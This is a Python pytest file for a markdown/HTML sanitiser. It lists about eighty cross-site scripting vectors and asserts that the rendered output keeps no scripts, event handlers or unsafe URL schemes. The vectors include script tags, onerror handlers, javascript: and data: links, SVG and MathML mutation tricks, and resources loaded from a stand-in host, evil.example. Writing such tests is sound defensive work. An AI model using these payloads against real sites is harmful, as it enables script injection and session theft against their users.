"""What an attacker would write into an article must not reach a reader."""

from __future__ import annotations

import pytest
from lxml import html as lxml_html

from postroom.render.markdown import parse
from postroom.render.sanitise import CLASSES, TAGS

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>\n\nalert(1)\n\n</script>",
    "text <script>alert(1)</script> text",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<img src=1 oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img srcset='x 1x' onload=alert(1)>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x</html>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='position:fixed;top:0;left:0;width:100%'>overlay</p>",
    "<div class='sheet button' id='login'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a onmouseover=alert(1) href=https://x.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "</title></head></body><script>alert(1)</script>",
    "<table><td background='javascript:alert(1)'>x</table>",
    '![x](https://x.example/"onerror="alert(1))',
    '![a](b "onload=alert(1)")',
]
SCHEMES = ("http:", "https:", "mailto:", "tel:", "#")


def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("body", VECTORS)
def test_nothing_dangerous_is_left(body: str) -> None:
    shown = parse(f"Before\n\n{body}\n\nAfter {body} end").html({}, base="https://x.example/")
    for element in lxml_html.fromstring(f"<div>{shown}</div>").iter():
        assert isinstance(element.tag, str), "a comment or instruction got through"
        assert element.tag in TAGS
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert name in {"href", "src", "alt", "title", "class", "id", "style", "width", "height", "scope"}
            if name in ("href", "src"):
                assert value.startswith(SCHEMES), value
            if name == "style":
                assert value.startswith(("text-align:", "max-width:"))
            if name == "class":
                assert set(value.split()) <= CLASSES


@pytest.mark.parametrize("body", VECTORS)
def test_plain_text_says_no_script(body: str) -> None:
    if "`" in body or "CDATA" in body or "scr<" in body or "script/x" in body or "x:script" in body:
        return  # these show code on purpose, or as the words that they are
    assert "<script" not in parse(body).text().lower()


def test_a_merge_field_cannot_open_an_attribute() -> None:
    shown = parse('{{first_name|"><script>x</script>}}').merged("@@").html({})
    assert "<script" not in shown
